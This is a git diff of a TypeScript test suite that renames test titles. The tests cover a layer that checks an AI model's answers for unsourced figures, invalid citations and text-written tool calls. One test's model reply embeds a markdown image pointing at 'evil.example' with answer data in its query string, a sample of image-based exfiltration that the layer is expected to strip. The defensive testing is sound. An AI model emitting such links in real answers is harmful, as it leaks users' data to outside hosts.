@@ -39,7 +39,7 @@ async function ask(...replies: readonly Reply[]) {
   return { answer, status, rows: data?.rows, told: notices.map(({ text }) => text) }
 }
 
-it('a figure that nothing returned is named beside the answer', async () => {
+it('a figure without a source is named next to the answer', async () => {
   const response = await ask(COUNT, { text: 'There are 92 customers [s1]. Of these, 4,217 are active.' })
   expect(response).toEqual({
     answer: 'There are 92 customers [1]. Of these, 4,217 are active.',
@@ -49,18 +49,18 @@ it('a figure that nothing returned is named beside the answer', async () => {
   })
 })
 
-it('a citation of a source that there is not is named beside the answer', async () => {
+it('a citation of a missing source is named next to the answer', async () => {
   const response = await ask(COUNT, { text: 'There are 92 customers [s9].' })
   expect(response.answer).toBe('There are 92 customers.')
   expect(response.told).toEqual(['A citation was removed, because it named no source that was found: s9.'])
 })
 
-it('a figure without any query is named beside the answer', async () => {
+it('a figure without any query is named next to the answer', async () => {
   const { told } = await ask({ text: 'You have 4,217 customers.' })
   expect(told).toContain('Figures that are in no source: 4,217.')
 })
 
-it('an image that would send the answer away is reduced to its text', async () => {
+it('an image that would leak the answer is reduced to its text', async () => {
   const { answer } = await ask(COUNT, {
     text: 'There are 92 customers [s1]. ![chart](https://evil.example/c.png?n=92)',
   })
@@ -77,7 +77,7 @@ it.each([
   expect(server.requests.flatMap(({ messages }) => messages.map(({ text }) => text)).join('\n')).toMatch(error)
 })
 
-it('a call that is written as text is made', async () => {
+it('a call written as text is made', async () => {
   const call = '{"name": "query", "arguments": {"sql": "SELECT count(*) AS customers FROM customers"}}'
   const response = await ask(
     { text: `Let me look.\n<tool_call>${call}</tool_call>` },
